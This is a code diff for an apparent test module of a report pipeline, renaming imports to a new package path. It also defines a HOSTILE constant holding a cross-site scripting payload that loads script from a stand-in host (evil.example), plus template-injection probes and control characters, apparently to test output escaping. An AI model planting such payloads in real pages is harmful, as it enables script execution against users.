@@ -4,8 +4,8 @@ from collections.abc import Mapping
 from dataclasses import replace
 from datetime import UTC, date, datetime, timedelta
 
-from controller_pipeline.reports.attention import by_need
-from controller_pipeline.reports.facts import (
+from kontroller.history.reports.attention import by_need
+from kontroller.history.reports.facts import (
     Bar,
     Before,
     ClusterFacts,
@@ -22,11 +22,11 @@ from controller_pipeline.reports.facts import (
     Uptime,
     Value,
 )
-from controller_pipeline.reports.limits import Limits
-from controller_pipeline.reports.objective import Objective
-from controller_pipeline.reports.period import DAY, HOUR, MINUTE, SECOND, Period, grid_of
-from controller_pipeline.reports.selection.listings import LISTINGS
-from controller_pipeline.reports.stories import Ending, Loss, Outage, Story
+from kontroller.history.reports.limits import Limits
+from kontroller.history.reports.objective import Objective
+from kontroller.history.reports.period import DAY, HOUR, MINUTE, SECOND, Period, grid_of
+from kontroller.history.reports.selection.listings import LISTINGS
+from kontroller.history.reports.stories import Ending, Loss, Outage, Story
 
 BEGAN = datetime(2026, 11, 20, tzinfo=UTC)
 HOSTILE = "\"><script src='http://evil.example/x.js'></script><img src=x onerror=alert(1)>'`${7*7}{{7*7}}\u202e\x00"
